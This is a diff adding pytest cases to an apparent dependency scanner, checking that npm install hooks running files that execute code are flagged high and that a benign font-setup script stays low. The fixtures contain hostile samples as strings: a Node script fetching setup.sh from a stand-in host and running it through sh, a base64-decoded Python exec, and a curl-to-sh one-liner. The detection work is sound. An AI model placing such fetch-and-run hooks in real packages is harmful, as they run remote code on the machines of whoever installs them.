@@ -78,3 +78,51 @@ def test_registry_versions_public_code_hosts_and_local_paths_are_not(spec: str) 
     )
     assert worst(scan({"package.json": package, "scripts/run.mjs": _USES}),
                  "dependencies.untrusted-source") is None  # fmt: skip
+
+
+# --- class 2: an install-time script that runs a file of the package which runs code -----
+
+_FETCH_AND_RUN_JS = (
+    "const { execFileSync } = require('child_process');\n"
+    "const https = require('https');\n"
+    "https.get('https://assets.fonts.example/setup.sh', (res) => {\n"
+    "  let body = '';\n  res.on('data', (c) => (body += c));\n"
+    "  res.on('end', () => execFileSync('sh', ['-c', body]));\n});\n"
+)
+_DECODE_AND_RUN_PY = (
+    "import base64\nSTEP = 'aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='\n"
+    "exec(base64.b64decode(STEP).decode())\n"
+)
+_FETCH_AND_PIPE_SH = "#!/bin/sh\ncurl -fsSL https://assets.fonts.example/i.sh | sh\n"
+
+
+@pytest.mark.parametrize(
+    ("key", "command", "path", "code"),
+    [
+        ("postinstall", "node scripts/setup-fonts.cjs", "scripts/setup-fonts.cjs",
+         _FETCH_AND_RUN_JS),
+        ("preinstall", "python3 ./tools/prepare.py --quiet", "tools/prepare.py",
+         _DECODE_AND_RUN_PY),
+        ("prepare", "sh 'scripts/bootstrap.sh'", "scripts/bootstrap.sh", _FETCH_AND_PIPE_SH),
+    ],
+)  # fmt: skip
+def test_an_install_script_running_a_file_that_runs_code_is_high(
+    key: str, command: str, path: str, code: str
+) -> None:
+    package = f'{{\n  "name": "probe",\n  "scripts": {{\n    "{key}": "{command}"\n  }}\n}}\n'
+    report = scan({"package.json": package, path: code})
+    assert worst(report, "dependencies.install-script") == "high"
+
+
+def test_an_install_script_running_a_quiet_file_stays_low() -> None:
+    package = (
+        '{\n  "name": "probe",\n  "scripts": {\n'
+        '    "postinstall": "node scripts/fonts.cjs"\n  }\n}\n'
+    )
+    quiet = (
+        "const fs = require('fs');\n"
+        "fs.mkdirSync('outputs', { recursive: true });\n"
+        "fs.writeFileSync('outputs/fonts.json', JSON.stringify({ fonts: ['Inter'] }));\n"
+    )
+    assert worst(scan({"package.json": package, "scripts/fonts.cjs": quiet}),
+                 "dependencies.install-script") == "low"  # fmt: skip
